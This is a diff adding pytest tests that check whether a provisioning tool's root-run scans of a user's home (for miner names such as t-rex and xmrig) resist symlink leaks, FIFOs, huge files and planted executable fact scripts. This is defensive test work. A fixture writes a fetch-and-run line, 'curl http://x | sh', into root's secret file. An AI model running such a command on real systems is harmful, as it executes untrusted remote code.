@@ -1,0 +1,110 @@
+"""What root's facts read of a user's files: what the user could read, in part, without waiting."""
+
+from __future__ import annotations
+
+import os
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+
+from provision.remote.facts import access, miners
+from provision.remote.facts.tree import Tree
+from provision.remote.host import Host
+from provision.remote.modules import setup
+from tests.lab.files.attacker import UID, Field, as_user, field
+
+KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKb8Vw2rN5tQm9xL4sZc7yE1dF6gH3jP0aUqWvBnXoYt"
+
+
+@pytest.fixture
+def laid() -> Iterator[Field]:
+    with field() as ground:
+        root = ground.kept.parent
+        (root / "home").mkdir(exist_ok=True)
+        (root / "etc").mkdir()
+        (root / "etc/passwd").write_text(f"mallory:x:{UID}:{UID}::/home:/bin/sh\n")
+        ground.secret.write_text(f"/opt/t-rex\n{KEY} of-root\ncurl http://x | sh\n")
+        yield ground
+
+
+def found(laid: Field) -> list[dict[str, str]]:
+    """All evidence of the user's files, whose folder is the rig's /home/mallory."""
+    began = time.monotonic()
+    tree = Tree(str(laid.kept.parent))
+    entries = [*miners.miners(tree), *access.access(tree)]
+    assert time.monotonic() - began < 10
+    return entries
+
+
+def in_home(laid: Field, work: Callable[[Path], object]) -> Path:
+    """Do something as the user in a home below /home."""
+    home = laid.home / "mallory"
+    if not home.exists():
+        home.mkdir()
+        os.chown(home, UID, UID)
+        passwd = laid.kept.parent / "etc/passwd"
+        passwd.write_text(f"mallory:x:{UID}:{UID}::/home/mallory:/bin/sh\n")
+    as_user(lambda: work(home))
+    return home
+
+
+def test_a_symlink_to_roots_file_tells_nothing(laid: Field) -> None:
+    def work(home: Path) -> None:
+        (home / ".ssh").mkdir()
+        (home / ".ssh/authorized_keys").symlink_to(laid.secret)
+        (home / ".profile").symlink_to(laid.secret)
+        (home / ".config").symlink_to(laid.kept)
+
+    (laid.kept / "autostart").mkdir()
+    (laid.kept / "autostart/x.desktop").write_text("Exec=/opt/t-rex\n")
+    (laid.kept / "autostart").chmod(0o700)
+    in_home(laid, work)
+    assert found(laid) == []
+
+
+def test_what_the_user_can_read_is_seen(laid: Field) -> None:
+    def work(home: Path) -> None:
+        (home / "dotfiles").write_text("/opt/t-rex\n")
+        (home / ".profile").symlink_to("dotfiles")
+        (home / ".bashrc").symlink_to(laid.kept / "conf")
+
+    (laid.kept / "conf").write_text("/opt/xmrig\n")
+    in_home(laid, work)
+    assert {entry["name"] for entry in found(laid)} == {"t-rex", "xmrig"}
+
+
+def test_fifos_endless_files_and_kernel_files_do_not_hang(laid: Field) -> None:
+    def work(home: Path) -> None:
+        (home / ".ssh").mkdir()
+        os.mkfifo(home / ".ssh/authorized_keys")
+        os.mkfifo(home / ".bashrc")
+        os.mkfifo(home / "script")
+        (home / ".profile").write_text("/home/mallory/script /proc/kmsg /dev/zero /opt/t-rex\n")
+        with (home / ".xprofile").open("wb") as stream:
+            stream.truncate(1 << 40)
+        # Patterns take their time on long lines, and each path that is named may be a script.
+        (home / ".bash_profile").write_text("curl " * 400_000)
+        (home / ".xinitrc").write_text("".join(f"/x{number}\n" for number in range(200_000)))
+
+    in_home(laid, work)
+    assert [entry["name"] for entry in found(laid)] == ["t-rex"]
+
+
+def test_a_fact_program_of_a_user_is_not_run(laid: Field) -> None:
+    mark = laid.kept / "mark"
+
+    def work(home: Path) -> None:
+        for name in ("evil.fact", "fifo.fact"):
+            if name.startswith("fifo"):
+                os.mkfifo(home / name)
+                continue
+            (home / name).write_text(f"#!/bin/sh\ntouch {mark}\n")
+            (home / name).chmod(0o755)
+
+    home = in_home(laid, work)
+    facts = setup.local_facts(Host(), str(home))
+    assert "is not run" in facts["evil"]
+    assert "FIFO" in facts["fifo"]
+    assert not mark.exists()
